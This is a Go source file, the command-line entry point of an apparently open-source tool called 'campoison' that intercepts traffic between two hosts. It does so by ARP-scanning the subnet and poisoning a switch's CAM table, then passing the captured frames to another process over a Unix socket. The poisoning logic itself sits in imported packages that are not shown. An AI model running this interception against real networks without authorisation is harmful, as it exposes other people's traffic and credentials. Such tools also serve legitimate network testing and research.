// SPDX-FileCopyrightText: 2022 SAP SE or an SAP affiliate company and IronCore contributors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"context"
	"net/netip"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/alecthomas/kong"
	"github.com/ironcore-dev/campoison"
	"github.com/ironcore-dev/campoison/arp"
	"github.com/ironcore-dev/campoison/ipc"
	"github.com/ironcore-dev/campoison/netif"
	"github.com/pkg/errors"
	log "github.com/sirupsen/logrus"
)

type cli struct {
	Host1  string `arg:"" help:"First host whose traffic is intercepted."`
	Host2  string `arg:"" help:"Second host whose traffic is intercepted."`
	Socket string `arg:"" help:"Unix socket of the process consuming intercepted frames."`

	Interface  string `help:"Interface to attack on. Detected from the subnet of HOST1 by default." short:"i"`
	Frequency  int    `help:"Milliseconds between two poisonings." short:"f" default:"20"`
	Listen     string `help:"Path of the local IPC socket." default:"${listen}"`
	Status     string `help:"Serve the attack status over HTTP, e.g. localhost:8080."`
	CacheLimit int    `help:"Maximum number of ARP cache entries, 0 for unbounded." default:"0"`
	QueueLimit int    `help:"Maximum number of destinations buffered per cycle, 0 for unbounded." default:"0"`

	Verbose bool             `help:"Enable info logging." short:"v"`
	Quiet   bool             `help:"Only log fatal errors." short:"q" aliases:"silence"`
	Debug   bool             `help:"Enable debug logging." short:"d"`
	Version kong.VersionFlag `help:"Print the version and exit."`

	host1, host2 netip.Addr
}

func (c *cli) Validate() error {
	var err error
	if c.host1, err = parseHost(c.Host1); err != nil {
		return err
	}
	if c.host2, err = parseHost(c.Host2); err != nil {
		return err
	}
	if c.Frequency < 1 {
		return errors.Errorf("frequency must be a positive number of milliseconds, got %d", c.Frequency)
	}
	if c.CacheLimit < 0 || c.QueueLimit < 0 {
		return errors.New("limits must not be negative")
	}
	return nil
}

func parseHost(s string) (netip.Addr, error) {
	ip, err := netip.ParseAddr(s)
	if err != nil || !ip.Is4() {
		return netip.Addr{}, errors.Errorf("%q is not a valid IPv4 address", s)
	}
	return ip, nil
}

var CLI cli

func main() {
	kctx := kong.Parse(&CLI,
		kong.Name("campoison"),
		kong.Description("Intercept the traffic between two hosts by poisoning the CAM table of their switch."),
		kong.Vars{
			"listen":  ipc.DefaultPath,
			"version": campoison.CAMPOISON_VERSION,
		},
	)

	switch {
	case CLI.Quiet:
		log.SetLevel(log.FatalLevel)
	case CLI.Debug:
		log.SetLevel(log.DebugLevel)
	case CLI.Verbose:
		log.SetLevel(log.InfoLevel)
	default:
		log.SetLevel(log.WarnLevel)
	}

	var iface *netif.Interface
	var err error
	if CLI.Interface != "" {
		iface, err = netif.ByName(CLI.Interface)
	} else {
		iface, err = netif.ByIP(CLI.host1)
	}
	if err != nil {
		log.Fatalf("Cannot find interface: %v", err)
	}

	config := campoison.Config{
		Host1:      CLI.host1,
		Host2:      CLI.host2,
		Frequency:  time.Duration(CLI.Frequency) * time.Millisecond,
		QueueLimit: CLI.QueueLimit,
	}
	kctx.FatalIfErrorf(config.Validate(iface))

	cache := arp.NewCache(CLI.CacheLimit)
	defer cache.Clear()

	if err := resolve(iface, cache, config); err != nil {
		log.Fatalf("%v", err)
	}

	ch, err := ipc.Open(CLI.Listen, CLI.Socket)
	if err != nil {
		log.Fatalf("Cannot open IPC channel: %v", err)
	}
	defer ch.Close()

	wire, err := netif.Listen(iface, netif.ProtoAll)
	if err != nil {
		log.Fatalf("Cannot open raw socket: %v", err)
	}
	defer wire.Close()

	attack, err := campoison.NewAttack(config, iface, cache, wire, ch)
	if err != nil {
		log.Fatalf("Cannot prepare attack: %v", err)
	}
	defer attack.Close()

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()

	if CLI.Status != "" {
		go campoison.ServeStatus(attack, CLI.Status)
	}

	go func() {
		for {
			select {
			case <-ctx.Done():
				return
			case <-time.After(10 * time.Second):
				log.Debugf("Attack statistics: %+v", attack.Stats())
			}
		}
	}()

	if err := attack.Run(ctx); err != nil {
		// deferred cleanups do not run after Fatalf
		attack.Close()
		wire.Close()
		ch.Close()
		log.Fatalf("Attack failed: %v", err)
	}
}

// resolve fills the cache with the hosts of the subnet and makes sure both
// targets are among them.
func resolve(iface *netif.Interface, cache *arp.Cache, config campoison.Config) error {
	sock, err := netif.Listen(iface, netif.ProtoARP)
	if err != nil {
		return errors.Wrap(err, "cannot open ARP socket")
	}
	defer sock.Close()

	resolver := arp.NewResolver(iface, cache, sock)

	count, err := resolver.Scan()
	if err != nil {
		return errors.Wrap(err, "ARP scan failed")
	}
	log.Infof("ARP scan found %d hosts", count)

	for _, ip := range []netip.Addr{config.Host1, config.Host2} {
		ok, err := resolver.Ensure(ip)
		if err != nil {
			return errors.Wrapf(err, "cannot resolve %s", ip)
		}
		if !ok {
			return errors.Errorf("host %s does not answer ARP requests", ip)
		}
	}

	return nil
}
